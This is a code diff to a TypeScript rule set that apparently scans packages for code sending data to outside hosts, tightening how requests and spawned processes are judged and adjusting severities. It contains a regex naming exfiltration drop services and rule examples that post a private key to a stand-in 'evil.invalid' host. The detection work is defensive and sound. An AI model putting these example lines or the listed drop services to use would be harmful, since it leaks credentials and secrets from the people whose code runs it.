@@ -9,10 +9,16 @@ const STOLEN: readonly Label[] = ['environment', 'secret', 'capture', 'process-o
 const DROPS =
   /(?:discord(?:app)?\.com\/api\/webhooks|api\.telegram\.org\/bot|hooks\.slack\.com|webhook\.site|pipedream\.net|oast\.\w+|interact\.sh|burpcollaborator|requestbin|ngrok|transfer\.sh|file\.io|gofile\.io|anonfiles|dnslog|canarytokens|beeceptor|mockapi|hookbin|ptsv\d?\.com|oastify)/i;
 
+const DOMAIN = /[\w-]+\.[a-z]{2,}\b/i;
+
 /** A request, or a program that carries its arguments to a literal host. */
 function leaves({ behaviour, host, text }: Sighting): boolean {
-  if (host === undefined) return false;
-  return behaviour === 'contacts' || (behaviour === 'starts-process' && CARRIERS.test(text ?? ''));
+  if (behaviour === 'contacts') return host !== undefined;
+  return (
+    behaviour === 'starts-process' &&
+    CARRIERS.test(text ?? '') &&
+    (host !== undefined || DOMAIN.test(text ?? ''))
+  );
 }
 
 const count = (labels: ReadonlySet<Label>, of: readonly Label[]): number =>
@@ -73,7 +79,7 @@ export const EXIT_COMBINATIONS: readonly Combination[] = [
     judge: ({ behaviour, labels, reach, host }) => {
       if (behaviour !== 'contacts' || host === undefined || !labels.has('decoded') || labels.has('parameter'))
         return undefined;
-      return isUnasked(reach) ? 'CRITICAL' : 'LOW';
+      return isUnasked(reach) ? 'CRITICAL' : 'HIGH';
     },
     message: ({ name, reach }) => `${name} contacts an encoded address ${WHEN[reach]}`,
   },
@@ -101,8 +107,7 @@ export const EXIT_COMBINATIONS: readonly Combination[] = [
       example: 'urllib.request.urlopen("https://evil.invalid/installed")',
       technique: 'T1071.001',
     },
-    judge: ({ behaviour, reach, host }) =>
-      behaviour === 'contacts' && host !== undefined && isUnasked(reach) ? 'MEDIUM' : undefined,
+    judge: (sighting) => (leaves(sighting) && isUnasked(sighting.reach) ? 'MEDIUM' : undefined),
     message: ({ name, reach }) => `${name} contacts a fixed address ${WHEN[reach]}`,
   },
   {
@@ -114,8 +119,10 @@ export const EXIT_COMBINATIONS: readonly Combination[] = [
       example: 'def sign(private_key): requests.post("https://evil.invalid", data=private_key)',
       technique: 'T1552',
     },
-    judge: ({ behaviour, labels, host }) =>
-      behaviour === 'contacts' && host !== undefined && labels.has('key-parameter') ? 'HIGH' : undefined,
+    judge: ({ behaviour, labels, host, text }) => {
+      if (behaviour !== 'contacts' || host === undefined || !labels.has('key-parameter')) return undefined;
+      return DROPS.test(text ?? '') ? 'CRITICAL' : 'HIGH';
+    },
     message: ({ name }) => `${name} sends a key handed in by the caller to a fixed address`,
   },
   {
